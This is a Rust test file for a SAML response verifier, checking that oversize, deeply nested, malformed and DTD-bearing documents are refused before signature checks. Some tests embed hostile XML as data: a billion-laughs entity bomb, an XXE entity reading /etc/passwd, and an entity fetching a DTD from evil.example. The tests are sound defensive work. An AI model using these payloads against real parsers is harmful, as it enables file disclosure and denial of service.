//! Limits and refusals before any signature is looked at.

use authx_saml::{Limits, SamlError, verify_response};

use crate::idp::*;

fn verify_with(xml: &[u8], limits: Limits) -> Result<authx_saml::VerifiedAssertion, SamlError> {
    let key = Key::ec();
    let keys = [key.pinned()];
    let mut exp = expect(&keys);
    exp.limits = limits;
    verify_response(xml, &exp)
}

fn signed() -> String {
    let key = Key::ec();
    response(&Spec::default(), &key)
}

#[test]
fn oversize_document_is_refused_before_parsing() {
    let xml = signed();
    let limits = Limits {
        max_bytes: xml.len() - 1,
        ..Limits::default()
    };
    assert_eq!(
        verify_with(xml.as_bytes(), limits),
        Err(SamlError::TooLarge {
            limit: xml.len() - 1
        })
    );
    // Not even well-formed: the size is checked first.
    let huge = vec![b'<'; Limits::default().max_bytes + 1];
    assert_eq!(
        verify_with(&huge, Limits::default()),
        Err(SamlError::TooLarge {
            limit: Limits::default().max_bytes
        })
    );
}

#[test]
fn deep_nesting_is_refused() {
    let deep = format!("{}{}", "<a>".repeat(40), "</a>".repeat(40));
    let xml = signed().replacen("staff", &deep, 1);
    assert_eq!(
        verify_with(xml.as_bytes(), Limits::default()),
        Err(SamlError::TooDeep { limit: 32 })
    );
    // 100,000 levels: refused without exhausting the stack.
    let deeper = format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000));
    let limits = Limits {
        max_bytes: 1 << 20,
        max_nodes: 200_000,
        ..Limits::default()
    };
    assert_eq!(
        verify_with(deeper.as_bytes(), limits),
        Err(SamlError::TooDeep { limit: 32 })
    );
}

#[test]
fn too_many_nodes_are_refused() {
    let many = "<x/>".repeat(20_000);
    let xml = signed().replacen("staff", &many, 1);
    assert_eq!(
        verify_with(xml.as_bytes(), Limits::default()),
        Err(SamlError::TooManyNodes { limit: 10_000 })
    );
}

#[test]
fn billion_laughs_is_refused() {
    let mut dtd = String::from("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
    for i in 1..10 {
        dtd.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">",
            format!("&lol{};", i - 1)
                .replace("&lol0;", "&lol;")
                .repeat(10)
        ));
    }
    dtd.push_str("]>");
    let xml = format!("{dtd}{}", signed().replacen("u-4711", "&lol9;", 1));
    assert_eq!(
        verify_with(xml.as_bytes(), Limits::default()),
        Err(SamlError::DtdRefused)
    );
}

#[test]
fn external_entities_are_refused() {
    for dtd in [
        r#"<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#,
        r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>"#,
    ] {
        let xml = format!("{dtd}{}", signed().replacen("u-4711", "&xxe;", 1));
        assert_eq!(
            verify_with(xml.as_bytes(), Limits::default()),
            Err(SamlError::DtdRefused),
            "{dtd}"
        );
    }
    // Without a DTD an entity reference is simply undeclared.
    let xml = signed().replacen("u-4711", "&xxe;", 1);
    assert!(matches!(
        verify_with(xml.as_bytes(), Limits::default()),
        Err(SamlError::Malformed(_))
    ));
}

#[test]
fn malformed_and_foreign_documents_are_refused() {
    assert!(matches!(
        verify_with(b"<samlp:Response", Limits::default()),
        Err(SamlError::Malformed(_))
    ));
    assert!(matches!(
        verify_with(b"\xff\xfe<\x00a\x00/\x00>\x00", Limits::default()),
        Err(SamlError::Malformed(_))
    ));
    assert!(matches!(
        verify_with("<a>caf\u{e9}</a>".as_bytes(), Limits::default()),
        Err(SamlError::UnexpectedRoot { .. })
    ));
    assert!(matches!(
        verify_with(b"<a>caf\xe9</a>", Limits::default()),
        Err(SamlError::Malformed(_))
    ));
    let request = r#"<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>"#;
    assert_eq!(
        verify_with(request.as_bytes(), Limits::default()),
        Err(SamlError::UnexpectedRoot {
            expected: "samlp:Response"
        })
    );
    let v1 = signed().replacen(r#"Version="2.0""#, r#"Version="1.1""#, 1);
    assert_eq!(
        verify_with(v1.as_bytes(), Limits::default()),
        Err(SamlError::Version)
    );
}
